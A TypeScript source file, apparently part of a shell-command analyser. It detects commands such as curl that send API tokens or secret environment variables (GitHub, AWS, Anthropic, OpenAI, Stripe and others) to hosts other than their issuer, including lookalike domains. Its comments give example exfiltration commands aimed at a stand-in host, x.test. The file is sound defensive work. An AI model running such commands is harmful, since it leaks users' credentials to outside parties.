import type { Word } from '../../shell/command.js';
import type { Running } from '../command/running.js';
import { holdsIssued } from '../../secrets/issued.js';
import { textOf } from '../../shell/command.js';
import { emitResource } from '../command/emit.js';
import { readArguments } from '../command/arguments.js';
import { rowFor } from '../programs/lookup/row-for.js';
import { shownHeaders } from './shown-headers.js';

/**
 * Who gives out the tokens that variables of these names hold: the domains they are for, and the first names of machines on
 * which people run such a service themselves, or the file in the home in which its client keeps where they have logged in.
 */
interface Issuer {
  readonly variable: RegExp;
  /** How the tokens themselves begin. */
  readonly token?: RegExp;
  readonly domains: readonly string[];
  readonly ownHosts?: RegExp;
  readonly loggedIn?: string;
}

const REGISTRY = /^(?:npm|pypi|registry|packages?|artifactory|artifacts|nexus|verdaccio)\./;

const ISSUERS: readonly Issuer[] = [
  { variable: /^(?:GITHUB|GH)_(?:\w+_)?(?:TOKEN|PAT)$/, token: /(?<![A-Za-z\d])(?:gh[ops]_|github_pat_)/, domains: ['github.com', 'githubusercontent.com', 'githubcopilot.com', 'github.dev', 'github.ai', 'ghcr.io', 'ghe.com'], loggedIn: '.config/gh/hosts.yml' },
  { variable: /^(?:GITLAB|GL|CI_JOB)_(?:\w+_)?TOKEN$/, token: /(?<![A-Za-z\d])(?:glpat-)/, domains: ['gitlab.com'], ownHosts: /^git(?:lab)?\./ },
  { variable: /^AWS_(?:SECRET_ACCESS_KEY|SESSION_TOKEN)$/, domains: ['amazonaws.com', 'amazonaws.com.cn', 'amazon.com', 'aws.dev', 'api.aws', 'on.aws'] },
  { variable: /^(?:NPM|NODE_AUTH|YARN_NPM_AUTH)_TOKEN$/, token: /(?<![A-Za-z\d])(?:npm_)/, domains: ['npmjs.org', 'npmjs.com', 'yarnpkg.com', 'pkg.github.com', 'gitlab.com', 'pkg.dev', 'dev.azure.com', 'visualstudio.com', 'amazonaws.com', 'jfrog.io', 'cloudsmith.io'], ownHosts: REGISTRY },
  { variable: /^(?:ANTHROPIC|CLAUDE)_API_KEY$/, token: /(?<![A-Za-z\d])(?:sk-ant-)/, domains: ['anthropic.com', 'claude.com', 'claude.ai'] },
  { variable: /^OPENAI_API_KEY$/, token: /(?<![A-Za-z\d])(?:sk-(?:proj|svcacct|admin)-)/, domains: ['openai.com', 'openai.azure.com', 'chatgpt.com'] },
  { variable: /^STRIPE_(?:\w+_)?(?:SECRET|KEY)(?:_KEY)?$/, token: /(?<![A-Za-z\d])(?:[rs]k_live_)/, domains: ['stripe.com'] },
  { variable: /^(?:PYPI|TWINE)_(?:\w+_)?(?:TOKEN|PASSWORD)$/, domains: ['pypi.org', 'pythonhosted.org', 'python.org', 'pkg.dev', 'gitlab.com', 'amazonaws.com', 'jfrog.io', 'cloudsmith.io'], ownHosts: REGISTRY },
  { variable: /^(?:HF|HUGGINGFACE|HUGGING_FACE_HUB)_(?:\w+_)?TOKEN$/, token: /(?<![A-Za-z\d])(?:hf_)/, domains: ['huggingface.co', 'hf.co', 'hf.space'] },
  { variable: /^SLACK_(?:\w+_)?TOKEN$/, token: /(?<![A-Za-z\d])xox[a-s]-/, domains: ['slack.com'] },
  { variable: /^DATABASE_URL$|^(?:PG|POSTGRES_|MYSQL_|DB_)PASSWORD$/, domains: [] },
];

/** True for the issuer's domain and what is below it; a service of one's own is not where the name goes on like that of another (`gitlab.com.x.test`). */
function isOf({ domains, ownHosts, loggedIn }: Issuer, host: string, { frame, scope }: Running): boolean {
  if (domains.some((domain) => host === domain || host.endsWith(`.${domain}`))) return true;
  if (poses(domains, host)) return false;
  if (ownHosts?.test(host) === true) return true;
  const file = loggedIn === undefined ? undefined : frame.analysis.world.disk.readText(`${scope.home}/${loggedIn}`);
  return file?.kind === 'present' && file.text.split('\n').some((line) => line.startsWith(`${host}:`));
}

/** A host that has the name of the issuer's domain in its own, and is not of it: `api.github.com.x.test`, `notgithub.com`; not `github.company.com`. */
function poses(domains: readonly string[], host: string): boolean {
  return domains.some((domain) => ['.', '-'].some((end) => `${host}.`.includes(`${domain}${end}`)) && host !== domain && !host.endsWith(`.${domain}`));
}

const VARIABLE = /\$\{?([A-Z][A-Z0-9_]*)/g;

/** The name of a machine, where it has a dot; a variable may stand for it. */
const HOST = /^(?:[a-z][a-z\d+.-]*:\/\/)?(?:[^/?#@\s]*@)?([\w-]+(?:\.[\w-]+)+)\.?(?::\d+)?(?=[/?#]|$)/i;

/** This machine, and those beside it. */
const NEAR = /^(?:127(?:\.\d+){3}|10(?:\.\d+){3}|192\.168(?:\.\d+){2})$/;

/** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer, unless the host only poses as one. */
export function foreignTokens(program: string, args: readonly Word[], running: Running): void {
  if (program === 'curl') shownHeaders(args, running);
  const addresses = addressesOf(program, args);
  const all = addresses.flatMap(hostsOf);
  if (all.length === 0) return;
  writtenTokens(args, all, running);
  args.forEach((word, index) => {
    if (word.values[0].certainty === 'certain' || !word.written.includes('$')) return;
    const proves = /^(?:-H|--header|-u|--user)$/.test(textOf(args[index - 1])) || /^(?:-H.|--header=|-u.|--user=)/.test(word.written);
    // What is no address goes to all of them.
    const hosts = addresses.includes(word) ? hostsOf(word) : all;
    for (const [, name = ''] of word.written.matchAll(VARIABLE)) {
      const issuer = ISSUERS.find(({ variable }) => variable.test(name));
      if (issuer !== undefined && hosts.some((host) => (proves ? poses(issuer.domains, host) : !isOf(issuer, host, running)))) emitResource('send', 'credential', name, running);
    }
  });
}

/** `curl -H 'Authorization: Bearer ghp_…' https://x.test`: a token that stands in the command itself goes to a host that has nothing to do with who gave it out. */
function writtenTokens(args: readonly Word[], hosts: readonly string[], running: Running): void {
  for (const text of args.map(textOf)) {
    const issuer = ISSUERS.find(({ token }) => token?.test(text));
    if (issuer !== undefined && holdsIssued(text) && hosts.some((host) => !isOf(issuer, host, running) && !isNamedAfter(issuer, host))) return emitResource('send', 'credential', 'token', running);
  }
}

/** A service that a company runs itself under the issuer's name: `github.company.test`. One that may stand anywhere is known by no name. */
function isNamedAfter({ domains, ownHosts }: Issuer, host: string): boolean {
  const [name = ''] = (domains[0] ?? '').split('.');
  return !poses(domains, host) && (ownHosts !== undefined || host.split('.').includes(name));
}

/** The operands, and values of options that are addresses: not the names of files. */
function addressesOf(program: string, args: readonly Word[]): readonly Word[] {
  const row = rowFor(program);
  if (row === undefined) return [];
  const given = readArguments(program, row, args, rowFor);
  return [...given.operands, ...given.valued.flatMap(({ option, word }) => (given.options[option] === 'url' ? [word] : []))];
}

function hostsOf(address: Word): readonly string[] {
  return address.values.flatMap(({ text }) => {
    const [, host = ''] = HOST.exec(text) ?? [];
    return host === '' || NEAR.test(host) ? [] : [host.toLowerCase()];
  });
}
